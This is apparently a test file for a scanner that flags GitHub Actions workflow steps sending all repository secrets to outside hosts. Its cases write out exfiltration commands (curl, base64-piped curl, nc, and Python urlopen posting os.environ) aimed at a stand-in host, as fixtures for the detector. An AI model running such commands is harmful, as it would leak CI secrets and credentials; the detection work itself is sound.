"""Tests of what workflows of GitHub give to strangers."""

from __future__ import annotations

from agents.checks.pipelines.workflows import ALL_SECRETS, workflow_settings
from schemas.severity import Severity
from tests.each import each

_ALL = "${{ toJSON(secrets) }}"


def _found(step):
    return list(workflow_settings({"on": "push", "jobs": {"a": {"steps": [step]}}}))


@each(
    ("run", "severity"),
    [
        ('curl -d "$D" https://files.example', Severity.CRITICAL),
        ('echo "$D" | base64 | curl -s -d @- https://files.example', Severity.CRITICAL),
        ('echo "$D" | nc files.example 99', Severity.CRITICAL),
        ("./deploy.sh", None),
        ("curl -fsSLO https://files.example/a.tar.gz", None),
    ],
)
def test_secrets_that_a_step_sends_are_critical(run, severity):
    (setting,) = _found({"env": {"D": _ALL}, "run": run})
    assert (setting.rule_id, setting.severity) == (ALL_SECRETS, severity)


_CODE = "import os, urllib.request\nurllib.request.urlopen('https://files.example', data={})\n"


@each(
    ("shell", "sent", "hostile"),
    [
        ("python", "str(dict(os.environ)).encode()", True),
        ("python {0}", "str(os.environ).encode()", True),
        ("python", "b'done'", False),
        ("bash", "str(dict(os.environ)).encode()", False),
    ],
)
def test_a_step_in_python_is_judged_as_python(shell, sent, hostile):
    found = _found({"shell": shell, "run": _CODE.format(sent)})
    assert [setting.severity for setting in found] == [Severity.CRITICAL] * hostile
